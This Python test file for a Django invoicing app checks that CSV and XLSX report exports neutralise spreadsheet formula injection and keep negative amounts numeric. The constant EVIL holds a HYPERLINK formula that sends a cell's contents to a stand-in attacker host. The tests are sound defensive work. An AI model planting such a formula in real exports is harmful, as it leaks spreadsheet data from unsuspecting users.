"""Issue 14, "should fix" and "also": hostile input is refused cheaply and clearly.

One idea per test; each fails on the code before the fix.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal as D

from django.utils import translation
from openpyxl import load_workbook

from recurent.common.csvsafe import safe_cell
from recurent.payments import reports
from tests.factories import local
from tests.payments.helpers import issued

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

# --- 8. formula injection in CSV / XLSX ------------------------------------------------------


def test_a_client_named_like_a_formula_is_text_in_the_aging_csv_and_xlsx(world):
    from tests import factories as f

    cl = f.client(world.company, name=EVIL)
    issued(world, client=cl, periods=2)
    with translation.override("ro"):
        t = reports.aging(world.company.pk, local(2026, 5, 20))
    rows = list(csv.reader(io.StringIO(reports.to_csv(t).decode("utf-8-sig")), delimiter=";"))
    row = next(r for r in rows if EVIL in r[0])
    assert row[0] == "'" + EVIL
    ws = load_workbook(io.BytesIO(reports.to_xlsx(t))).active
    cells = [
        c for r in ws.iter_rows() for c in r if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert cells and all(c.data_type == "s" for c in cells)


def test_negative_amounts_stay_numbers_in_the_statement(world):
    from recurent.payments.services import payment_record

    cl, [jan] = issued(world)
    payment_record(company=world.company, client=cl, date=local(2026, 2, 10).date(), amount="150",
                   allocations=[(jan, "121")], as_of=local(2026, 2, 10), user=world.user)  # fmt: skip
    with translation.override("ro"):
        t = reports.client_statement(cl, local(2026, 2, 1).date(), local(2026, 3, 31).date())
    text = reports.to_csv(t).decode("utf-8-sig")
    assert ";-29.00" in text and "'-29" not in text
    ws = load_workbook(io.BytesIO(reports.to_xlsx(t))).active
    assert ws.cell(row=ws.max_row, column=6).value == D("-29.00")


def test_every_formula_start_is_neutralised_and_other_values_are_kept():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert (
        safe_cell(D("-5")) == D("-5")
        and safe_cell(-5) == -5
        and safe_cell("Acme SRL") == "Acme SRL"
    )
